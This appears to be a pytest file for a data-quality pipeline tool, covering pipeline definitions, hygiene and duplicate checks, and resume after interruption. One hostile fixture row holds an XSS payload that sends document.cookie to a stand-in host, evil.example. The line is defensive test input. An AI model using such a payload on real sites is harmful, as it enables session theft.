"""Data-quality pipelines: definitions, shipped checks on real + hostile rows, resume after
SIGKILL, idempotent re-runs, local engine equality across worker counts, CLI errors."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import forensics
from forensics.errors import InputError
from forensics.quality import (Batch, DuplicatesCheck, HygieneCheck, MistranslationCheck,
                                Pipeline, ReadSamples, Truncate, WriteFindings, load_pipeline,
                                run_pipeline)
from forensics.quality.core import builtin_pipelines

from conftest import REPO, run_cli

LONG = ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 3000)[:150_000]
HOSTILE = [
    # id, prompt, reply
    ("h-script", "What does this page do? <script>alert('x')</script>",
     "<script>document.location='http://evil.example/'+document.cookie</script> It steals cookies."),
    ("h-ctrl", "Name the river.", "The river is the Rhine\x00\x07 which flows north\u202e."),
    ("h-moji", "Where is the café?", "The cafÃ© is next to the stationâ€™s main entrance, Ã  gauche."),
    ("h-echo", "What is the capital of France?", "What is the capital of   France?"),
    ("h-trunc", "Describe the process in detail.",
     "The process starts with collecting samples, then the samples are washed and"),
    ("h-long", "Summarise the text.", LONG),
    ("h-dup1", "Who wrote Hamlet?", "William Shakespeare wrote Hamlet around 1600."),
    ("h-dup2", "Who wrote Hamlet?", "William Shakespeare wrote Hamlet around 1600."),
    ("h-near1", "Who painted the Mona Lisa and when was it painted?",
     "Leonardo da Vinci painted the Mona Lisa between 1503 and 1519 in Florence."),
    ("h-near2", "Who painted the Mona Lisa, and when was it painted?",
     "Leonardo da Vinci painted the Mona Lisa between 1503 and 1519, in Florence!"),
]


def _rows_by_check(ws, run_id):
    out: dict[str, set[str]] = {}
    for check, rid in ws.rows('SELECT "check", row_id FROM v_quality_findings '
                              "WHERE pipeline_run_id = ?", [run_id]):
        out.setdefault(check, set()).add(rid)
    return out


def _findings(ws, run_id):
    return sorted(ws.rows('SELECT "check", sample_id, severity, round(score, 6), detail, group_id '
                          "FROM quality_findings WHERE pipeline_run_id = ?", [run_id]))


@pytest.fixture(scope="session")
def corpus(xquad_dir):
    from forensics.testing.synth import build_corpus

    return build_corpus(xquad_dir, seed=3, planted_langs=("de", "es"), other_families=(),
                        n_clean=80, n_native=40, n_translation=40, n_planted_per_lang=20)


@pytest.fixture(scope="session")
def template_ws(tmp_path_factory, corpus):
    """A workspace with the labelled XQuAD corpus plus hostile rows, built once."""
    from forensics.ingest import ingest

    d = tmp_path_factory.mktemp("tmpl")
    f = d / "rows.jsonl"
    corpus.write_jsonl(f)
    with f.open("a", encoding="utf-8") as fh:
        for rid, p, r in HOSTILE:
            fh.write(json.dumps({"id": rid, "prompt": p, "reply": r}, ensure_ascii=False) + "\n")
    ws = forensics.init(d / "ws")
    ingest(ws, f, "train")
    ws.close()
    return d / "ws"


@pytest.fixture
def ws_copy(template_ws, tmp_path):
    dst = tmp_path / "ws"
    shutil.copytree(template_ws, dst)
    return dst


# ------------------------------------------------------------------ definitions
def test_definition_round_trip_and_python_api():
    shipped = builtin_pipelines()
    assert set(shipped) >= {"mistranslation", "duplicates", "hygiene"}
    for name in shipped:
        p = load_pipeline(name)
        again = Pipeline.from_toml(p.to_toml())
        assert again.to_dict() == p.to_dict()
        assert again.definition_hash() == p.definition_hash()
        assert Pipeline.from_dict(p.to_dict()).to_dict() == p.to_dict()
        # the repo's pipelines/ dir ships the same files
        assert (REPO / "pipelines" / f"{name}.toml").read_text() == shipped[name].read_text()
    code = Pipeline([ReadSamples(), MistranslationCheck(min_conf=0.5, min_chars=12, semantic=True,
                                                        agree_threshold=0.3), WriteFindings()],
                    name="mistranslation")
    assert code.definition_hash() == load_pipeline("mistranslation").definition_hash()
    # reader and writer are implied when left out
    implied = Pipeline([DuplicatesCheck(threshold=0.9)])
    assert [s.type_name for s in implied.steps] == ["read.samples", "check.duplicates",
                                                   "write.findings"]
    assert Pipeline([HygieneCheck(z_max=5.0)]).definition_hash() != \
        Pipeline([HygieneCheck()]).definition_hash()


BAD = [
    ('[pipeline]\nname = "x"\n\n[[steps]]\ntype = "check.nope"\n', 5, "unknown step type"),
    ('[pipeline]\nname = "x"\n\n[[steps]]\ntype = "check.hygiene"\n\n[[steps]]\n'
     'type = "check.duplicates"\nthreshold = "high"\n', 9, "must be float"),
    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nz_max = 4.0\necho = 1\n', 6,
     "must be bool"),
    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nzmax = 4.0\n', 5,
     "no parameter 'zmax'"),
    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nz_max = = 4\n', 5,
     "TOML syntax error"),
    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.duplicates"\nfield = "title"\n', 3,
     "field must be"),
]


@pytest.mark.parametrize("text,line,msg", BAD)
def test_bad_definition_names_file_and_line(tmp_path, text, line, msg):
    f = tmp_path / "bad.toml"
    f.write_text(text)
    with pytest.raises(InputError) as e:
        load_pipeline(f)
    assert f"{f}:{line}:" in e.value.message and msg in e.value.message


def test_cli_bad_file_exit_2_and_list_show(ws_path, tmp_path):
    f = tmp_path / "bad.toml"
    f.write_text(BAD[1][0])
    r = run_cli("pipeline", "run", f, "--dataset", "x", workspace=ws_path, check=False)
    assert r.returncode == 2 and f"{f}:9:" in r.stderr
    r = run_cli("pipeline", "run", "no-such-pipeline", "--dataset", "x", workspace=ws_path,
                check=False)
    assert r.returncode == 4 and "shipped" in r.stderr
    names = {p["name"] for p in run_cli("pipeline", "list", "--json").json()}
    assert names >= {"mistranslation", "duplicates", "hygiene"}
    shown = run_cli("pipeline", "show", "duplicates").stdout
    assert Pipeline.from_toml(shown.split("\n", 1)[1]).definition_hash() == \
        load_pipeline("duplicates").definition_hash()


# ------------------------------------------------------------------ checks on real rows
def test_shipped_checks_on_labelled_and_hostile_rows(ws_copy, corpus):
    combined = Pipeline([ReadSamples(), HygieneCheck(), DuplicatesCheck(), Truncate(max_chars=5000),
                         MistranslationCheck(), WriteFindings()], name="all")
    with forensics.open(ws_copy) as ws:
        res = run_pipeline(ws, combined, "train", workers=1, batch_size=64)
        by = _rows_by_check(ws, res.pipeline_run_id)
        n = ws.one("SELECT count(*) FROM samples WHERE dataset = 'train'")[0]
    assert res.rows == n and res.status == "done"
    # mistranslation: planted rows found, translation requests / native pairs not flagged
    planted = {k for k, v in corpus.labels.items() if v.startswith("planted:")}
    flagged = by.get("mistranslation", set())
    tp = len(flagged & planted)
    assert tp / len(planted) >= 0.9, (tp, len(planted))
    assert tp / max(1, len(flagged)) >= 0.9, flagged - planted
    hard = {k for k, v in corpus.labels.items() if v == "translation_request"}
    assert not flagged & hard
    # hygiene on hostile rows
    assert "h-moji" in by["hygiene.mojibake"]
    assert "h-ctrl" in by["hygiene.control_chars"]
    assert "h-echo" in by["hygiene.echo"]
    assert "h-trunc" in by["hygiene.truncated"]
    assert "h-long" in by["hygiene.length_outlier"]
    assert "h-script" not in set().union(*[v for k, v in by.items() if k != "hygiene.length_outlier"])
    # duplicates grouped
    assert {"h-dup1", "h-dup2"} <= by["duplicates.exact"]
    assert {"h-near1", "h-near2"} <= by["duplicates.near"]
    with forensics.open(ws_copy, read_only=True) as ws:
        g = ws.rows("SELECT DISTINCT group_id FROM v_quality_findings WHERE row_id IN "
                    "('h-near1', 'h-near2') AND \"check\" = 'duplicates.near'")
    assert len(g) == 1 and g[0][0].startswith("near:")
    # per-step stats are consistent
    st = {s.step: s for s in res.steps}
    assert st["read.samples"].rows_out == n
    assert st["check.hygiene"].rows_in == n and st["write.findings"].findings == sum(
        len(v) for v in by.values())


def test_hygiene_rows_ingest_would_reject():
    """Empty replies never reach samples through ingest (it rejects them) but can through a
    Parquet reader; the step itself must flag them."""
    b = Batch(0, {"sample_id": [1, 2, 3], "prompt": ["Hi", "Q?", None],
                  "reply": ["", "   \t", "\ufffd\ufffd broken"]})
    _, f = HygieneCheck().process(b)
    got = {(x.check, x.sample_id) for x in f}
    assert {("hygiene.empty_reply", 1), ("hygiene.empty_reply", 2),
            ("hygiene.mojibake", 3)} <= got


# ------------------------------------------------------------------ runs
def test_idempotent_rerun_and_workers_equal(ws_copy):
    p = load_pipeline("hygiene")
    with forensics.open(ws_copy) as ws:
        a = run_pipeline(ws, p, "train", workers=1, batch_size=50)
        before = ws.one("SELECT count(*) FROM quality_findings")[0]
        again = run_pipeline(ws, p, "train", workers=2, batch_size=50)
        assert again.reused and again.pipeline_run_id == a.pipeline_run_id
        assert ws.one("SELECT count(*) FROM quality_findings")[0] == before
        b = run_pipeline(ws, Pipeline([DuplicatesCheck(), HygieneCheck()]), "train",
                         workers=2, batch_size=50, fresh=True)
        c = run_pipeline(ws, Pipeline([DuplicatesCheck(), HygieneCheck()]), "train",
                         workers=1, batch_size=50, fresh=True)
        assert b.pipeline_run_id != c.pipeline_run_id
        assert [x[:1] + x[1:] for x in _findings(ws, b.pipeline_run_id)] == \
            _findings(ws, c.pipeline_run_id)
        assert _findings(ws, a.pipeline_run_id) == [
            x for x in _findings(ws, c.pipeline_run_id) if x[0].startswith("hygiene")]


# The CLI in a subprocess, with run_pipeline's ``on_batch_committed`` parameter set: each
# committed batch appends its id to a mark file, then sleeps to widen the window in which the
# test stops the run. Everything else (options, exit codes, messages) is the real CLI.
_CLI_WITH_COMMIT_HOOK = """
import functools, sys, time
import forensics.quality
from forensics.cli import main

mark, pause = sys.argv[1], float(sys.argv[2])

def committed(batch_id):
    with open(mark, "a") as fh:
        fh.write(f"{batch_id}\\n")
    time.sleep(pause)

forensics.quality.run_pipeline = functools.partial(forensics.quality.run_pipeline,
                                                   on_batch_committed=committed)
main(sys.argv[3:], prog_name="forensics")
"""


def _start_pipeline_until(ws_copy, tmp_path, workers: int, n_marks: int, **popen_kw):
    """Start `forensics pipeline run duplicates` (0.4 s per committed batch) in a subprocess
    and return (proc, mark file) once ``n_marks`` batches have committed."""
    mark = tmp_path / "marks.txt"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, "-c", _CLI_WITH_COMMIT_HOOK, str(mark), "0.4",
           "--workspace", str(ws_copy), "pipeline", "run",
           "duplicates", "--dataset", "train", "--batch-size", "20", "--workers", str(workers),
           "--json"]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            **popen_kw)
    deadline = time.time() + 90
    while time.time() < deadline:
        if mark.exists() and len(mark.read_text().split()) >= n_marks:
            return proc, mark
        if proc.poll() is not None:
            pytest.fail(f"run ended before it could be stopped: {proc.communicate()}")
        time.sleep(0.05)
    proc.kill()
    pytest.fail("no batch committed within 90 s")


def _resume_matches_a_clean_run(ws_copy, run_id: int, n_batches: int) -> None:
    r = run_cli("pipeline", "run", "duplicates", "--dataset", "train", "--batch-size", "20",
                "--json", workspace=ws_copy).json()
    assert r["resumed"] and r["pipeline_run_id"] == run_id and r["batches_skipped"] >= n_batches
    with forensics.open(ws_copy) as ws:
        resumed = _findings(ws, run_id)
        total = ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?", [run_id])[0]
        assert total == r["batches_total"]
        clean = run_pipeline(ws, load_pipeline("duplicates"), "train", batch_size=20, fresh=True)
        assert resumed == _findings(ws, clean.pipeline_run_id) and resumed


def test_ctrl_c_to_the_process_group_exits_130_and_resumes(ws_copy, tmp_path):
    """A terminal's Ctrl-C reaches the driver AND its pool workers. The driver finishes the batch
    in flight, marks the run 'interrupted' and exits 130; workers ignore SIGINT (a worker dying
    mid-task used to leave the pool waiting); a re-run resumes to the same findings."""
    proc, mark = _start_pipeline_until(
        ws_copy, tmp_path, workers=2, n_marks=1, start_new_session=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err.decode()[-2000:]
    assert b"interrupted" in err and b"Traceback" not in err
    with forensics.open(ws_copy, read_only=True) as ws:
        run_id, status = ws.one("SELECT pipeline_run_id, status FROM pipeline_runs")
        assert status == "interrupted"
        n_batches = ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?",
                           [run_id])[0]
        assert n_batches == len(mark.read_text().split())     # every committed batch recorded
    _resume_matches_a_clean_run(ws_copy, run_id, n_batches)


def test_resume_after_sigkill(ws_copy, tmp_path):
    proc, mark = _start_pipeline_until(ws_copy, tmp_path, workers=1, n_marks=2)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    committed = len(mark.read_text().split())
    with forensics.open(ws_copy, read_only=True) as ws:
        run_id, status = ws.one("SELECT pipeline_run_id, status FROM pipeline_runs")
        assert status == "running"
        n_batches = ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?",
                           [run_id])[0]
        assert 1 <= n_batches <= committed + 1
    _resume_matches_a_clean_run(ws_copy, run_id, n_batches)


def test_progress_and_commit_callback(ws_copy):
    """The run reports one batch task through the Progress protocol and calls
    on_batch_committed once per committed batch; a resumed run counts earlier batches as done."""
    from forensics.progress import Recorder

    rec, committed = Recorder(), []
    with forensics.open(ws_copy) as ws:
        r = run_pipeline(ws, load_pipeline("duplicates"), "train", workers=1, batch_size=50,
                         progress=rec, on_batch_committed=committed.append)
        assert committed == sorted(committed) and len(committed) == r.batches_total > 1
        (start,) = [e for e in rec.events if e[0] == "start"]
        assert start[3] == r.batches_total
        assert sum(e[2] for e in rec.events if e[0] == "advance") == r.batches_total
        assert ("finish", start[1]) in rec.events
        assert any("reducing" in n for n in rec.notes)      # duplicates is a global check
        # a failing callback stops the run after the batch it was told about committed
        def stop(batch_id):
            raise RuntimeError(f"stop after {batch_id}")
        with pytest.raises(RuntimeError, match="stop after"):
            run_pipeline(ws, load_pipeline("duplicates"), "train", workers=1, batch_size=50,
                         fresh=True, on_batch_committed=stop)
        run_id, status = ws.one("SELECT pipeline_run_id, status FROM pipeline_runs "
                                "ORDER BY pipeline_run_id DESC LIMIT 1")
        assert status == "failed"
        assert ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?",
                      [run_id])[0] == 1
        rec2 = Recorder()
        again = run_pipeline(ws, load_pipeline("duplicates"), "train", workers=1, batch_size=50,
                             progress=rec2)
        assert again.pipeline_run_id == run_id and again.resumed and again.batches_skipped == 1
        adv = [e[2] for e in rec2.events if e[0] == "advance"]
        assert adv[0] == 1 and sum(adv) == again.batches_total
